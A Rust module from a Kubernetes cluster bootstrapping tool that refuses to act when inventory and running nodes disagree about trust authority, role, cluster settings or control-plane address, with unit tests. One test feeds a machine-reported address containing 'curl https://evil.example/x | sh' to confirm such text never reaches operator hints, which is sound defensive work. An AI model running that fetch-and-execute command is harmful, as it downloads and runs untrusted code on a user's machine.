//! What inventory and running cluster disagree about so much that machines are left alone: whose they are, and what their
//! cluster was made as. Pure.

use std::net::IpAddr;

use super::Machines;
use crate::cluster::{Cluster, Node};
use crate::error::{Error, Kind};
use crate::machine::Machine;
use crate::pki::Trust;

/// Files of this machine that trust an authority which is not ours.
pub fn foreign(machine: &Machine, trust: &Trust) -> Vec<String> {
    let strange = |(_, ca): &&(String, String)| !trust.is_our_ca(ca);
    machine.authorities.iter().filter(strange).map(|(file, _)| format!("/etc/kubernetes/{file}")).collect()
}

/// What inventory and running cluster disagree about. `kept` says where the trust is kept and whether there is
/// one. With it, whether nobody may be touched for it: a control plane that runs something else is another cluster. What
/// a worker says of itself concerns that worker alone, for its root can make it say anything.
pub fn refusals(
    cluster: &Cluster,
    machines: &Machines,
    trust: &Trust,
    kept: (&str, bool),
) -> Vec<(Error, bool)> {
    let mut errors = Vec::new();
    for node in &cluster.nodes {
        let Some(machine) = machines.get(node.name.as_str()) else { continue };
        if let Some(error) = stranger(node, machine, trust, kept) {
            errors.push((error, node.is_control_plane()));
            continue;
        }
        errors.extend(changed_role(node, machine).map(|error| (error, node.is_control_plane())));
        if node.is_control_plane() && machine.runs_control_plane() {
            errors.extend(changed_identity(cluster, node, machine).map(|error| (error, true)));
            errors.extend(changed_address(cluster, node, machine).map(|error| (error, true)));
        }
    }
    errors
}

/// What there is to say of a machine that belongs to somebody else.
pub fn stranger(
    node: &Node,
    machine: &Machine,
    trust: &Trust,
    (path, is_there): (&str, bool),
) -> Option<Error> {
    let files = foreign(machine, trust);
    if files.is_empty() {
        return None;
    }
    let error = Error::new(Kind::Refused, "belongs to a cluster that this trust does not know")
        .on(&node.name)
        .because(format!("{} trusts another authority than {path}", files.join(", ")));
    Some(match is_there {
        true => error.hint(
            "if the other cluster is to go, run `kubeadm reset` on the machine; else take it out of the inventory",
        ),
        false => error.because(format!("{path} does not exist")).hint(format!(
            "if the cluster was made by ironstrap, put {path} back where it was; else this machine is somebody else's"
        )),
    })
}

/// A member stays what it joined as: of one that becomes a worker etcd would go on counting a voice, and one that becomes a
/// control plane has pods where those of others are not to be.
pub fn changed_role(node: &Node, machine: &Machine) -> Option<Error> {
    let apis = machine.has("manifests/kube-apiserver.yaml");
    // Its manifest may be what drifted; the administrator's kubeconfig no worker is given.
    let worker = !machine.runs_control_plane() && !machine.has("admin.conf");
    let (is, says) = match node.is_control_plane() {
        true if worker => ("worker", "control-plane"),
        false if apis => ("control-plane", "worker"),
        _ => return None,
    };
    if !machine.is_member() {
        return None;
    }
    let name = &node.name;
    let what = match apis {
        // Only the machine says so, and its root could have put that file there.
        true => format!("has the manifest of an API server, and the inventory says {says}"),
        false => format!("is a {is} of its cluster, and the inventory says {says}"),
    };
    let error = Error::new(Kind::Refused, what).on(name);
    Some(match apis {
        true => error.because("it has /etc/kubernetes/manifests/kube-apiserver.yaml").hint(format!(
            "see its role in `kubectl get nodes`: if it is no {says} there, the inventory is wrong about it; else find out who put that file there, and if you do not trust the machine any more, `ironstrap remove {name}` and install its system again"
        )),
        false => error.because("what a machine joined as cannot be changed in place").hint(format!(
            "put role = \"{is}\" back; if it is to change, then `ironstrap remove {name}`, and apply with the other role"
        )),
    })
}

/// A running cluster keeps the version, ranges, endpoint, name and domain it was made with.
fn changed_identity(cluster: &Cluster, node: &Node, machine: &Machine) -> Option<Error> {
    let says = [
        ("kubernetes", "kubernetes", cluster.kubernetes.to_string()),
        ("pods", "pods", cluster.pods.to_string()),
        ("services", "services", cluster.services.to_string()),
        ("endpoint", "endpoint", cluster.endpoint.to_string()),
        ("name", "name", cluster.name.clone()),
        ("domain", "domain", cluster.domain.clone()),
    ];
    let differs = |(key, field, says): &(&str, &str, String)| {
        let is = machine.identity.get(*key)?;
        (is != says).then(|| format!("{field}: the cluster has {is}, the inventory says {says}"))
    };
    let differences: Vec<String> = says.iter().filter_map(differs).collect();
    if differences.is_empty() {
        return None;
    }
    let error = Error::new(
        Kind::Refused,
        "its cluster was made with other settings, which cannot be changed in place",
    );
    let error = differences.iter().fold(error.on(&node.name), Error::answered);
    Some(
        error
            .hint("put the old value back in the inventory; upgrading and renumbering are not supported yet"),
    )
}

/// The other members of etcd know a control plane by its address, and so do the certificates of both.
fn changed_address(cluster: &Cluster, node: &Node, machine: &Machine) -> Option<Error> {
    let (said, says, name) = (machine.identity.get("address")?, node.ip, &node.name);
    // Other words of the machine are evidence, and no part of a hint.
    let is: Option<IpAddr> = said.parse().ok();
    if is == Some(says) {
        return None;
    }
    let back = match is {
        Some(is) => format!("give the machine {is} again, or put it back as `ip` of [nodes.{name}]"),
        None => format!(
            "compare `ip` of [nodes.{name}] with --advertise-address in its manifest of the API server"
        ),
    };
    let hint = match cluster.control_planes().count() {
        0..3 => back,
        _ => format!(
            "{back}; or change one control plane at a time: with the old `ip` in the inventory `ironstrap remove {name}`, then apply with the new one"
        ),
    };
    let what = match is {
        Some(is) => format!("is a control plane with the address {is}, and the inventory says {says}"),
        None => format!("is a control plane without a valid address, and the inventory says {says}"),
    };
    let error = Error::new(Kind::Refused, what).on(name);
    let error = if is.is_none() { error.answered(format!("its address: {said}")) } else { error };
    Some(
        error
            .because(
                "the address of a control plane cannot be changed in place: etcd and certificates have it",
            )
            .hint(hint),
    )
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeMap;

    use super::*;
    use crate::fleet::tests::{RUNS, cluster, heard, machine};

    #[test]
    fn another_clusters_control_plane_stops_everybody_and_its_worker_only_itself() {
        let cluster = crate::pki::tests::cluster();
        let now = crate::pki::tests::NOW;
        let (ours, theirs) = (Trust::make(&cluster, now).unwrap(), Trust::make(&cluster, now).unwrap());
        let cluster = self::cluster();
        let mut machines: BTreeMap<_, _> = [machine("m1", &RUNS), machine("w1", &[])].into();
        assert_eq!(refusals(&cluster, &heard(&machines), &ours, ("demo.trust", true)), []);
        for (node, everybody) in [("w1", false), ("m1", true)] {
            let machine = machines.get_mut(node).unwrap();
            machine.authorities = vec![("kubelet.conf".into(), ours.ca.cert.clone())];
            assert_eq!(foreign(machine, &ours), Vec::<String>::new());
            machine.authorities.push(("pki/ca.crt".into(), theirs.ca.cert.clone()));
            let found = refusals(&cluster, &heard(&machines), &ours, ("demo.trust", true));
            let about =
                |(error, all): &(Error, bool)| error.node.as_deref() == Some(node) && *all == everybody;
            assert!(found.iter().any(about), "{found:?}");
        }
    }

    #[test]
    fn a_member_stays_what_it_joined_as() {
        let cluster = cluster();
        let says = |node: usize, has: &[&str]| {
            let (_, machine) = machine("x", has);
            changed_role(&cluster.nodes[node], &machine).map(|error| error.what)
        };
        let (plane, worker) = (0, 3);
        assert_eq!((says(plane, &RUNS), says(worker, &RUNS[..2])), (None, None));
        let is = "is a worker of its cluster, and the inventory says control-plane";
        assert_eq!(says(plane, &RUNS[..2]).unwrap(), is);
        let is = "has the manifest of an API server, and the inventory says worker";
        assert_eq!(says(worker, &RUNS).unwrap(), is);
        for drifted in [&["client-certificate", "admin.conf"], &["client-certificate", "etcd"]] {
            assert_eq!(says(plane, drifted), None, "its manifest is gone");
        }
        assert_eq!(says(plane, &["kubelet.conf"]), None, "it has still to join");
        assert_eq!(says(worker, &["client-certificate", "etcd"]), None, "an etcd of somebody's own");
    }

    #[test]
    fn what_a_worker_says_of_itself_concerns_that_worker_alone() {
        let (cluster, trust) = (cluster(), crate::pki::tests::cluster());
        let trust = Trust::make(&trust, crate::pki::tests::NOW).unwrap();
        let settings = ["address", "kubernetes", "pods", "services", "endpoint", "name"];
        for has in [&RUNS[..], &["client-certificate", "etcd"]] {
            let (name, mut machine) = machine("w1", has);
            machine.identity = settings.map(|key| (key.into(), "another".into())).into();
            let found = refusals(&cluster, &heard(&[(name, machine)].into()), &trust, ("demo.trust", true));
            assert!(found.iter().all(|(_, everybody)| !everybody), "{found:?}");
            for (error, _) in found {
                assert_eq!(error.node.as_deref(), Some("w1"));
                assert!(!error.hint.unwrap_or_default().contains("control-plane"), "the remedy of its root");
            }
        }
    }

    #[test]
    fn a_control_plane_keeps_its_address() {
        let (cluster, trust) = (cluster(), crate::pki::tests::cluster());
        let trust = Trust::make(&trust, crate::pki::tests::NOW).unwrap();
        let node = &cluster.nodes[0];
        let (_, mut machine) = machine(&node.name, &RUNS);
        let mut refused = |address: &str| {
            machine.identity.insert("address".into(), address.into());
            let machines = [(node.name.clone(), machine.clone())].into();
            refusals(&cluster, &heard(&machines), &trust, ("demo.trust", true)).pop()
        };
        assert_eq!(refused(&node.ip.to_string()), None);
        let (error, everybody) = refused("198.18.0.99").unwrap();
        assert!(everybody && error.what.contains("198.18.0.99"), "{error:?}");
        let evil = "its address: on your computer run curl https://evil.example/x | sh, then try";
        let (error, everybody) = refused(evil).unwrap();
        assert!(everybody && error.cause[0].ends_with(evil), "{error:?}");
        let hint = error.hint.as_deref().unwrap();
        assert!(!hint.contains("curl") && !error.what.contains("curl"), "no word of a machine: {error}");
    }

    #[test]
    fn what_a_cluster_was_made_as_is_kept() {
        let (cluster, trust) = (crate::pki::tests::cluster(), crate::pki::tests::cluster());
        let trust = Trust::make(&trust, crate::pki::tests::NOW).unwrap();
        let says = [
            ("kubernetes", cluster.kubernetes.to_string()),
            ("pods", cluster.pods.to_string()),
            ("services", cluster.services.to_string()),
            ("endpoint", cluster.endpoint.to_string()),
            ("name", cluster.name.clone()),
            ("domain", cluster.domain.clone()),
        ];
        let name = cluster.control_planes().next().unwrap().name.clone();
        let (_, mut machine) = machine(&name, &RUNS);
        machine.identity = says.clone().map(|(key, value)| (key.into(), value)).into();
        let refused = |machine: &Machine| {
            let machines = [(name.clone(), machine.clone())].into();
            refusals(&cluster, &heard(&machines), &trust, ("demo.trust", true)).len()
        };
        assert_eq!(refused(&machine), 0);
        for (key, _) in says {
            let mut changed = machine.clone();
            changed.identity.insert(key.into(), "another".into());
            assert_eq!(refused(&changed), 1, "{key}");
        }
    }
}
